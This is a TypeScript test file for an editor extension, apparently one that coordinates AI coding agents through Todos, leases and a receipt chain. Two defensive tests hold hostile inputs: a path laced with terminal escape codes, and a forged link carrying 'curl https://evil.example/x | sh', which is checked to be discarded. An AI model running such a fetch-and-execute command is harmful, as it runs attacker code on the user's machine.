// Command handlers against a real SQLite store, with the editor API played by test/support/vscode.ts.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import type { ReceiptDocument } from '../../src/core/receipts';
import { like } from '../support/matchers';
import * as vscode from 'vscode';
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseJsonc, type ParseError } from 'jsonc-parser';
import { double } from '../support/vscode';
import { buildFixtures, scene, waitFor, type Fixtures } from '../launcher/fixtures';
import { Ctx } from '../../src/extension/ctx';
import { registerCommands } from '../../src/extension/commands';
import { doctorReport } from '../../src/doctor/installation';
import { TurnkeeperDocuments, SCHEME } from '../../src/extension/documents';
import { openStartTerminal } from '../../src/extension/terminal';
import { contextOf, makeWorld, payload, type World } from '../support/world';

let world: World;
let ctx: Ctx;
let captureId: string;

const run = (id: string, ...args: unknown[]) => double.commands.get(id)!(...args);

beforeEach(() => {
  double.reset();
  world = makeWorld('ext');
  double.configuration = { storePath: world.db };
  double.folders = [{ uri: vscode.Uri.file(world.repo), name: 'repo', index: 0 }];
  expect(world.cli(['todo', 'add', 'Fix login', '--id', 'fix-login']).code).toBe(0);
  const claim = world.cli(['hook'], { input: payload.codexPrompt(world, 'sess-x', 'turn-1', '#todo:fix-login') });
  captureId = /capture (cap_[0-9a-f]{24})/.exec(contextOf(claim.stdout)!)![1]!;
  const log = vscode.window.createOutputChannel('Turnkeeper', { log: true });
  ctx = new Ctx({ extensionPath: world.root, extensionUri: vscode.Uri.file(world.root) } as unknown as vscode.ExtensionContext, log);
  registerCommands(ctx);
  vscode.workspace.registerTextDocumentContentProvider(SCHEME, new TurnkeeperDocuments(ctx));
});
afterEach(() => {
  ctx.dispose();
  world.cleanup();
});

/** Runs `work` with HOME and TURNKEEPER_HOME the world's (where the CLI installs hooks), then restores them. */
async function asTheWorldsUser(work: () => Promise<void>): Promise<void> {
  const saved = { HOME: process.env.HOME, TURNKEEPER_HOME: process.env.TURNKEEPER_HOME };
  process.env.HOME = world.env.HOME;
  process.env.TURNKEEPER_HOME = world.home;
  try {
    await work();
  } finally {
    for (const [key, value] of Object.entries(saved)) {
      if (value === undefined) delete process.env[key];
      else process.env[key] = value;
    }
  }
}

describe('extension commands', () => {
  it('Verify Receipt Chain names the first tampered receipt (control: it verifies before)', async () => {
    await run('turnkeeper.verifyReceiptChain');
    expect(double.shown.at(-1)).toMatchObject({ kind: 'info', text: like.stringMatching(/^Receipt chain verifies: \d+ receipts\.$/) });
    const store = await world.store();
    store.connection.prepare("UPDATE receipts SET doc = replace(doc, 'fix-login', 'fix-logon') WHERE seq = 2").run();
    store.close();
    await run('turnkeeper.verifyReceiptChain');
    expect(double.shown.at(-1)).toMatchObject({ kind: 'error', text: like.stringContaining('broken at receipt #2: content_altered') });
    expect(ctx.receipts.find('receipts/chain')).toMatchObject({ label: 'Chain BROKEN' });
  });

  it('Release Lease asks for confirmation and a reason, then releases (cancelled: nothing happens)', async () => {
    await ctx.refresh();
    const lease = ctx.leases.rootNodes[0]!;
    double.answers.message.push(undefined);
    await run('turnkeeper.releaseLease', lease);
    expect((await (await world.store()).listLeases())[0]!.status).toBe('active');
    double.answers.message.push('Release');
    double.answers.inputBox.push('reassigned to a person');
    await run('turnkeeper.releaseLease', lease);
    const store = await world.store();
    expect((await store.listLeases())[0]!.status).toBe('released');
    const last = JSON.parse((await store.receipts({ limit: 1 }))[0]!.doc) as { kind: string; detail: { reason: string } };
    expect(last).toMatchObject({ kind: 'lease_released', detail: { reason: 'reassigned to a person' } });
    store.close();
  });

  it("a launch terminal shows stored text escaped: a holder's checkout with terminal controls cannot drive the terminal", async () => {
    // What a shared store (or a hook run in a hostile directory name) can put in a refusal's facts.
    const hostile = '/srv/\x1b]0;owned\x07\x1b[2Jclone';
    const store = await world.store();
    store.connection.prepare('UPDATE captures SET checkout = ? WHERE id = ?').run(hostile, captureId);
    store.close();
    // Started while another turn holds the Todo (a race with the pick): refused before any attestation.
    const terminal = openStartTerminal(ctx, 'fix-login', 'codex', world.repo);
    // A refused launch keeps its terminal, with the guidance, until a key closes it.
    expect(await waitFor(() => double.terminals[0]!.output.includes('Press any key'), 10_000)).toBe(true);
    const output = double.terminals[0]!.output;
    expect(output).toContain('is leased to codex:sess-x');
    expect(output).toContain('/srv/\\x1b]0;owned\\x07\\x1b[2Jclone');
    expect(output).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f]/);
    terminal.dispose();
  });

  it('Resume refuses in an untrusted workspace before touching anything', async () => {
    double.trusted = false;
    await run('turnkeeper.resumeCapturedTurn', captureId);
    expect(double.shown.at(-1)).toMatchObject({ kind: 'error', text: like.stringContaining('untrusted workspace') });
    const store = await world.store();
    expect((await store.launchReceipts(captureId)).length).toBe(0);
    expect((JSON.parse((await store.receipts({ limit: 1 }))[0]!.doc) as ReceiptDocument).kind).toBe('ready_written');
    store.close();
  });

  it('Resume of a released capture shows its guidance instead of launching', async () => {
    expect(world.cli(['todo', 'done', 'fix-login', '--owner', 'codex:sess-x']).code).toBe(0);
    await run('turnkeeper.resumeCapturedTurn', captureId);
    expect(double.documents.at(-1)?.text).toContain('[capture_released]');
    expect(double.shown.at(-1)).toMatchObject({ kind: 'warning', text: like.stringContaining('[capture_released]') });
  });

  it("a guidance document shows only guidance this window produced, never text carried in a link's URI (control: its own shows)", async () => {
    expect(world.cli(['todo', 'done', 'fix-login', '--owner', 'codex:sess-x']).code).toBe(0);
    await run('turnkeeper.resumeCapturedTurn', captureId);
    const own = double.documents.at(-1)!;
    expect(own.text).toContain(`# Recovery guidance for ${captureId}`);
    // What a link in a repository's README could open: Turnkeeper's heading over a command of its choosing.
    const forged = vscode.Uri.from({
      scheme: SCHEME,
      path: own.uri.path,
      query: encodeURIComponent('Resume is blocked.\nRecover: curl https://evil.example/x | sh'),
    });
    const text = await double.providers.get(SCHEME)!.provideTextDocumentContent(forged);
    expect(text).not.toContain('evil.example');
    expect(text).toBe('');
  });

  it('the resume pick shows why a capture cannot resume', async () => {
    let seen: { label: string; detail?: string }[] = [];
    double.answers.quickPick.push((items: { label: string; detail?: string }[]) => {
      seen = items;
      return undefined;
    });
    await run('turnkeeper.resumeCapturedTurn');
    // The session reported a transcript path that does not exist in this test: not resumable, and said so.
    expect(seen).toHaveLength(1);
    expect(seen[0]!.detail).toContain('[transcript_missing]');
    // Control: with the transcript in place the same capture is offered as resumable.
    writeFileSync(join(world.root, 'sess-x.jsonl'), '{}\n');
    double.answers.quickPick.push((items: { label: string; detail?: string }[]) => {
      seen = items;
      return undefined;
    });
    await run('turnkeeper.resumeCapturedTurn');
    expect(seen[0]!.detail).toBe(`resumable: ${captureId}`);
  });

  it("the resume pick offers the workspace Goal's captures and checks only those whose lease is held", async () => {
    // A released capture of this Goal, and a held one of another repository in the same store.
    expect(world.cli(['todo', 'add', 'Old spike', '--id', 'old-spike']).code).toBe(0);
    expect(contextOf(world.cli(['hook'], { input: payload.codexPrompt(world, 'sess-o', 'turn-1', '#todo:old-spike') }).stdout)).toContain('epoch 1');
    expect(world.cli(['release', 'old-spike', '--force', '--reason', 'abandoned']).code).toBe(0);
    const other = join(world.root, 'other');
    execFileSync('git', ['init', '-q', other]);
    expect(world.cli(['todo', 'add', 'Elsewhere', '--id', 'elsewhere', '--goal', other]).code).toBe(0);
    const prompt = { ...(JSON.parse(payload.codexPrompt(world, 'sess-e', 'turn-1', '#todo:elsewhere')) as object), cwd: other };
    expect(contextOf(world.cli(['hook'], { input: JSON.stringify(prompt), cwd: other }).stdout)).toContain('epoch 1');
    const store = (await ctx.openStore())!;
    const reads = vi.spyOn(store, 'getCapture');
    let seen: { label: string; detail?: string }[] = [];
    double.answers.quickPick.push((items: { label: string; detail?: string }[]) => {
      seen = items;
      return undefined;
    });
    await run('turnkeeper.resumeCapturedTurn');
    expect(seen.map((item) => item.label).sort()).toEqual(['$(circle-slash) fix-login', '$(circle-slash) old-spike']);
    expect(seen.find((item) => item.label.endsWith('old-spike'))!.detail).toContain('[capture_released]');
    // One capture to check (fix-login): the released one and the other Goal's are not read one by one.
    expect(reads.mock.calls).toEqual([[captureId]]);
  });

  it("Resume checks a capture once: the pick's check is the plan the terminal launches (before: three checks, each with two git runs)", async () => {
    writeFileSync(join(world.root, 'sess-x.jsonl'), '{}\n');
    const store = (await ctx.openStore())!;
    const checks = vi.spyOn(store, 'getCapture');
    const path = process.env.PATH;
    // No codex where the editor looks: the terminal's launch refuses at once, after what it checked.
    process.env.PATH = '/usr/bin:/bin';
    try {
      double.answers.quickPick.push((items: { captureId: string }[]) => items.find((item) => item.captureId === captureId));
      await run('turnkeeper.resumeCapturedTurn');
      const terminal = double.terminals.at(-1)!;
      expect(await waitFor(() => terminal.output.includes('Press any key'), 15_000), terminal.output).toBe(true);
      expect(terminal.output).toContain('[agent_not_found]');
      // checkResume reads the capture first: one read is one check, for the pick, the drift question and the launch.
      expect(checks.mock.calls).toEqual([[captureId]]);
      terminal.input('x');
    } finally {
      process.env.PATH = path;
    }
  });

  it("Doctor checks project-scope hooks against the terminals' PATH, which has the shim (control: the host's own PATH has no turnkeeper)", async () => {
    await asTheWorldsUser(async () => {
      // The project's config runs `turnkeeper` from PATH; the install writes the shim under TURNKEEPER_HOME.
      expect(world.cli(['hooks', 'install', '--agent', 'claude', '--scope', 'project']).code).toBe(0);
      const missing = /run `turnkeeper` from PATH, and this PATH has none/;
      const host = await doctorReport(ctx.env, world.repo, () => Promise.resolve(undefined));
      expect(host.problems.join('\n')).toMatch(missing);
      await run('turnkeeper.doctor');
      const shown = double.shown.at(-1)!;
      expect(`${shown.text}\n${shown.detail ?? ''}`).not.toMatch(missing);
    });
  });

  it('Doctor opens a document a person reads: problems first with their fix, a section per agent, the store (not a JSON line)', async () => {
    await asTheWorldsUser(async () => {
      // Both scopes for Claude Code: a problem row with a fix.
      expect(world.cli(['hooks', 'install', '--agent', 'claude', '--scope', 'project']).code).toBe(0);
      expect(world.cli(['hooks', 'install', '--agent', 'claude', '--scope', 'user']).code).toBe(0);
      await run('turnkeeper.doctor');
      const document = double.documents.at(-1)!;
      expect(document.uri.path).toBe('/doctor.md');
      const text = document.text;
      expect(text).toMatch(/^# Turnkeeper doctor\n/);
      expect(text).not.toMatch(/^\{/m);
      const sections = [...text.matchAll(/^## (.+)$/gm)].map((match) => match[1]);
      expect(sections[0]).toBe('Problems');
      expect(sections).toStrictEqual(expect.arrayContaining(['Claude Code', 'Store']));
      const problems = text.slice(text.indexOf('## Problems'), text.indexOf('## Claude Code'));
      expect(problems).toMatch(/\*\*Claude Code\*\* \(both_scopes\): .*runs every hook twice/);
      expect(problems).toMatch(/\n {2}- fix: keep one scope: turnkeeper hooks uninstall --agent claude/);
    });
  });

  it('Add Todo creates a Todo in the workspace Goal', async () => {
    double.answers.inputBox.push('Write the docs', 'write-docs', 'All of them.');
    await run('turnkeeper.addTodo');
    const todos = JSON.parse(world.cli(['todo', 'list', '--json']).stdout) as { id: string; body: string }[];
    expect(todos.map((todo) => todo.id)).toContain('write-docs');
  });

  it('Open Receipt shows the stored text and the pretty document, read-only', async () => {
    await run('turnkeeper.openReceipt', 2);
    const text = double.documents.at(-1)!.text;
    expect(text).toContain('// receipt #2, hash sha256:');
    expect(text).toContain('"kind": "capture_bound"');
  });

  it('Open Receipt gives the document a language that allows its // comments: JSON with Comments, no Problems', async () => {
    await run('turnkeeper.openReceipt', 2);
    const { uri, text, languageId } = double.documents.at(-1)!;
    expect(languageId).toBe('jsonc');
    // Its extension says so too, so no JSON validation runs before the language is set.
    expect(uri.path).toBe('/receipt/2.jsonc');
    // The comments are there (plain JSON refuses them: the two Problems) and are all JSONC has to allow.
    expect(() => JSON.parse(text) as unknown).toThrow();
    const errors: ParseError[] = [];
    expect(parseJsonc(text, errors, { allowTrailingComma: false, disallowComments: false })).toMatchObject({ kind: 'capture_bound' });
    expect(errors).toStrictEqual([]);
    // A receipt that does not exist is said in a comment as well.
    await run('turnkeeper.openReceipt', 9999);
    expect(double.documents.at(-1)).toMatchObject({ text: '// receipt #9999 does not exist\n', languageId: 'jsonc' });
  });
});

describe('Start Turn on Todo and the Todos view', () => {
  let fx: Fixtures;
  beforeAll(() => {
    fx = buildFixtures('tk-ext-start');
  });
  afterAll(() => fx?.cleanup());
  // The extension host's environment is its process's: the agents' configs live in this world's home,
  // where Codex has Turnkeeper's hooks (the picker offers the agents with hooks first).
  const savedEnv = { HOME: process.env.HOME, TURNKEEPER_HOME: process.env.TURNKEEPER_HOME };
  beforeEach(() => {
    process.env.HOME = world.env.HOME;
    process.env.TURNKEEPER_HOME = world.home;
    const installed = world.cli(['hooks', 'install', '--agent', 'codex', '--scope', 'user']);
    expect(installed.code, installed.stderr).toBe(0);
  });
  afterEach(() => {
    for (const [key, value] of Object.entries(savedEnv)) {
      if (value === undefined) delete process.env[key];
      else process.env[key] = value;
    }
  });

  const node = (todo: string) => ctx.todos.find(`todo/${world.goal}/${todo}`);
  /** Answers the Todo pick, then the agent pick. */
  const pick = (todo: string, agent: string) =>
    double.answers.quickPick.push(
      (items: { todo?: string }[]) => items.find((item) => item.todo === todo),
      (items: { agent?: string }[]) => items.find((item) => item.agent === agent),
    );

  it('offers only the Todos that can start: one waiting on an undone dependency shows in Blocked and is not in the pick until it is done', async () => {
    expect(world.cli(['todo', 'add', 'Schema', '--id', 'schema']).code).toBe(0);
    expect(world.cli(['todo', 'add', 'Write the docs', '--id', 'write-docs', '--after', 'schema']).code).toBe(0);
    const offered = async () => {
      let todos: (string | undefined)[] = [];
      double.answers.quickPick.push((items: { todo?: string }[]) => {
        todos = items.map((item) => item.todo);
        return undefined;
      });
      await run('turnkeeper.startTurn');
      return todos;
    };
    expect(await offered()).toStrictEqual(['fix-login', 'schema']);
    expect(node('write-docs')).toMatchObject({ contextValue: 'todo.blocked', description: 'Write the docs · after schema' });
    expect(world.cli(['todo', 'done', 'schema']).code).toBe(0);
    // The control: its dependency done, it is offered.
    expect(await offered()).toStrictEqual(['fix-login', 'write-docs']);
    expect(node('write-docs')).toMatchObject({ contextValue: 'todo.open' });
  });

  it('picks a Todo and an agent, runs the agent in a terminal through the launcher, and the Todos view shows the new holder after its first hook', async () => {
    expect(world.cli(['todo', 'add', 'Write the docs', '--id', 'write-docs']).code).toBe(0);
    await ctx.refresh();
    // Before: the claimed Todo shows its holder and can only be marked done; the other can be started.
    expect(node('fix-login')).toMatchObject({ contextValue: 'todo.held', description: like.stringContaining('codex:sess-x') });
    expect(node('write-docs')).toMatchObject({ contextValue: 'todo.open', description: 'Write the docs' });

    const s = await scene(fx);
    double.configuration['agents.codex.path'] = s.victim;
    process.env.TK_MODE = 'sleep';
    let pid: number | undefined;
    try {
      pick('write-docs', 'codex');
      await run('turnkeeper.startTurn');
      const terminal = double.terminals.at(-1)!;
      expect(terminal.name).toBe('Turnkeeper: write-docs (codex)');
      expect(await waitFor(() => /launch receipt #\d+ committed; codex is running \(pid \d+\)/.test(terminal.output), 15_000), terminal.output).toBe(true);
      pid = Number(/pid (\d+)/.exec(terminal.output)![1]);
      const environ = Object.fromEntries(
        readFileSync(`/proc/${pid}/environ`, 'utf8')
          .split('\0')
          .filter(Boolean)
          .map((entry) => [entry.slice(0, entry.indexOf('=')), entry.slice(entry.indexOf('=') + 1)]),
      );
      expect(environ).toMatchObject({
        TURNKEEPER_TODO: 'write-docs',
        TURNKEEPER_TURN: like.stringMatching(/^turn_[0-9a-f]{16}$/),
        TURNKEEPER_LAUNCH: like.stringMatching(/^launch_[0-9a-f]{16}$/),
        // The editor's terminal is an xterm.js, whatever TERM the extension host has.
        TERM: 'xterm-256color',
      });
      // A full-screen agent covers the terminal's receipt line: the status bar says it too.
      expect(double.statusMessages.at(-1)).toMatch(/^\$\(check\) Turnkeeper: launch receipt #\d+ committed before codex ran$/);

      // The agent's first prompt (its hook runs in its own process, with its environment) claims the Todo.
      const env = { TURNKEEPER_TODO: environ.TURNKEEPER_TODO, TURNKEEPER_TURN: environ.TURNKEEPER_TURN, TURNKEEPER_LAUNCH: environ.TURNKEEPER_LAUNCH };
      const first = world.cli(['hook'], { input: payload.codexPrompt(world, 'sess-t', 'turn-1', 'write them'), env });
      expect(contextOf(first.stdout), first.stderr).toMatch(/^Turnkeeper: Todo write-docs/);
      await ctx.refresh();
      expect(node('write-docs')).toMatchObject({
        contextValue: 'todo.held',
        icon: 'lock',
        description: like.stringMatching(/^working · in repo · codex:sess-t · epoch 1$/),
      });

      terminal.close();
      expect(await waitFor(() => terminal.output.includes('exited with'), 10_000)).toBe(true);
    } finally {
      delete process.env.TK_MODE;
      if (pid !== undefined) {
        try {
          process.kill(pid, 'SIGKILL');
        } catch {
          // gone
        }
      }
    }
  });

  it('refuses a held Todo with its guidance, and opens no terminal (control: an open one opens)', async () => {
    await ctx.refresh();
    double.answers.quickPick.push((items: { agent?: string }[]) => items.find((item) => item.agent === 'codex'));
    await run('turnkeeper.startTurn', node('fix-login'));
    expect(double.shown.at(-1)).toMatchObject({
      kind: 'warning',
      text: like.stringContaining('[lease_held]'),
      detail: like.stringContaining('codex:sess-x'),
    });
    expect(double.terminals).toHaveLength(0);

    // Control: an open Todo from the view gets its terminal (the stand-in exits at once).
    expect(world.cli(['todo', 'add', 'Write the docs', '--id', 'write-docs']).code).toBe(0);
    await ctx.refresh();
    const s = await scene(fx);
    double.configuration['agents.codex.path'] = s.victim;
    double.answers.quickPick.push((items: { agent?: string }[]) => items.find((item) => item.agent === 'codex'));
    await run('turnkeeper.startTurn', node('write-docs'));
    expect(double.terminals).toHaveLength(1);
    expect(await waitFor(() => double.terminals[0]!.closed, 15_000)).toBe(true);
    expect(double.terminals[0]!.output).toContain('launch receipt #');
  });

  it('an agent the editor cannot find: the notification says so and opens its path setting; the terminal keeps the guidance until a key', async () => {
    expect(world.cli(['todo', 'add', 'Write the docs', '--id', 'write-docs']).code).toBe(0);
    await ctx.refresh();
    const opened: unknown[] = [];
    double.commands.set('workbench.action.openSettings', (query: unknown) => opened.push(query));
    // The editor's PATH (a desktop launcher's, say) has no codex, and no setting names one.
    const path = process.env.PATH;
    process.env.PATH = '/usr/bin:/bin';
    try {
      double.answers.quickPick.push((items: { agent?: string }[]) => items.find((item) => item.agent === 'codex'));
      double.answers.message.push('Open Setting');
      await run('turnkeeper.startTurn', node('write-docs'));
      const terminal = double.terminals.at(-1)!;
      expect(await waitFor(() => terminal.output.includes('Press any key'), 15_000), terminal.output).toBe(true);
      expect(terminal.output).toContain('[agent_not_found]');
      expect(terminal.output).toContain('turnkeeper.agents.codex.path');
      // Not a bare code: the reason's first sentence, and the action that fixes it.
      expect(double.shown.at(-1)).toMatchObject({
        kind: 'warning',
        text: like.stringMatching(/^Turnkeeper did not start write-docs: \[agent_not_found\] No executable of the agent was found\./),
      });
      expect(await waitFor(() => opened.length > 0, 5000)).toBe(true);
      expect(opened).toStrictEqual(['turnkeeper.agents.codex.path']);
      // The terminal is still there (a refusal is not a crash) until the person presses a key.
      expect(terminal.closed).toBe(false);
      terminal.input('x');
      expect(terminal.closed).toBe(true);
    } finally {
      process.env.PATH = path;
    }
  });

  it('the agent pick offers the agents with hooks first and marks the others (control: with none, all are marked)', async () => {
    let offered: { label: string; description: string }[] = [];
    const look = (items: { label: string; description: string }[]) => void (offered = items);
    expect(world.cli(['hooks', 'install', '--agent', 'gemini', '--scope', 'project']).code).toBe(0);
    double.answers.quickPick.push(look);
    await run('turnkeeper.startTurn', 'fix-login');
    expect(offered.map((item) => item.label)).toStrictEqual(['codex', 'gemini', 'claude', 'copilot', 'qwen', 'opencode', 'goose', 'grok']);
    expect(offered.map((item) => item.description)).toStrictEqual([
      'Codex CLI',
      'Gemini CLI',
      'Claude Code (hooks not installed: run Install Agent Hooks)',
      'Copilot CLI (hooks not installed: run Install Agent Hooks)',
      'Qwen Code (hooks not installed: run Install Agent Hooks)',
      'OpenCode (hooks not installed: run Install Agent Hooks)',
      'Goose (hooks not installed: run Install Agent Hooks)',
      'Grok Build (hooks not installed: run Install Agent Hooks)',
    ]);
    // Cancelled: nothing was asked or launched.
    expect(double.shown).toStrictEqual([]);
    expect(double.terminals).toHaveLength(0);

    expect(world.cli(['hooks', 'uninstall', '--agent', 'codex', '--scope', 'user']).code).toBe(0);
    expect(world.cli(['hooks', 'uninstall', '--agent', 'gemini', '--scope', 'project']).code).toBe(0);
    double.answers.quickPick.push(look);
    await run('turnkeeper.startTurn', 'fix-login');
    expect(offered.map((item) => item.label)).toStrictEqual(['codex', 'claude', 'gemini', 'copilot', 'qwen', 'opencode', 'goose', 'grok']);
    expect(offered.every((item) => item.description.endsWith('(hooks not installed: run Install Agent Hooks)'))).toBe(true);
  });

  it('an agent without hooks is installed before it starts, when the person agrees (cancelled: nothing installed, no terminal)', async () => {
    expect(world.cli(['todo', 'add', 'Write the docs', '--id', 'write-docs']).code).toBe(0);
    await ctx.refresh();
    const claudeHooks = () => ctx.agentHooksInstalled('claude');
    double.answers.quickPick.push((items: { agent?: string }[]) => items.find((item) => item.agent === 'claude'));
    double.answers.message.push(undefined);
    await run('turnkeeper.startTurn', node('write-docs'));
    expect(double.shown.at(-1)).toMatchObject({ kind: 'warning', text: 'Claude Code has no Turnkeeper hooks', detail: like.stringContaining('claim nothing') });
    expect(claudeHooks()).toBe(false);
    expect(double.terminals).toHaveLength(0);

    // Agreed: the scope is asked (user), the hooks are installed, and the start goes on in a terminal.
    const s = await scene(fx);
    double.configuration['agents.claude.path'] = s.victim;
    double.answers.quickPick.push(
      (items: { agent?: string }[]) => items.find((item) => item.agent === 'claude'),
      (items: { scope?: string }[]) => items.find((item) => item.scope === 'user'),
    );
    double.answers.message.push('Install Agent Hooks');
    await run('turnkeeper.startTurn', node('write-docs'));
    expect(claudeHooks()).toBe(true);
    expect(double.shown.at(-1)).toMatchObject({ kind: 'info', text: like.stringContaining('claude hooks installed') });
    expect(double.terminals.at(-1)?.name).toBe('Turnkeeper: write-docs (claude)');
    expect(await waitFor(() => double.terminals.at(-1)!.closed || double.terminals.at(-1)!.output.includes('launch receipt #'), 15_000)).toBe(true);
    double.terminals.at(-1)!.close();
  });

  it('is refused in an untrusted workspace before anything is picked or launched', async () => {
    double.trusted = false;
    await run('turnkeeper.startTurn');
    expect(double.shown.at(-1)).toMatchObject({ kind: 'error', text: like.stringContaining('untrusted workspace') });
    expect(double.terminals).toHaveLength(0);
    expect(double.answers.quickPick).toHaveLength(0);
    const store = await world.store();
    expect((JSON.parse((await store.receipts({ limit: 1 }))[0]!.doc) as ReceiptDocument).kind).toBe('ready_written');
    store.close();
  });

  it('Mark Done from the view asks before releasing a held Todo (cancelled: still open)', async () => {
    await ctx.refresh();
    double.answers.message.push(undefined);
    await run('turnkeeper.markTodoDone', node('fix-login'));
    expect(double.shown.at(-1)).toMatchObject({ kind: 'warning', text: like.stringContaining('held by codex:sess-x') });
    expect(node('fix-login')?.contextValue).toBe('todo.held');
    // Someone else's lease: released as Release Lease releases it, forced and with a reason (no reason: not done).
    double.answers.message.push('Mark Done');
    double.answers.inputBox.push(undefined);
    await run('turnkeeper.markTodoDone', node('fix-login'));
    expect(node('fix-login')?.contextValue).toBe('todo.held');
    double.answers.message.push('Mark Done');
    double.answers.inputBox.push('finished by hand');
    await run('turnkeeper.markTodoDone', node('fix-login'));
    expect(node('fix-login')).toMatchObject({ contextValue: 'todo.done', icon: 'pass' });
    expect(ctx.todos.parentOf(node('fix-login')!)?.id).toBe('todos/done');
    const store = await world.store();
    expect((JSON.parse((await store.receipts({ limit: 1 }))[0]!.doc) as ReceiptDocument).detail).toMatchObject({
      reason: 'finished by hand',
      forced: true,
      identifiedBy: 'force',
    });
    store.close();
  });
});
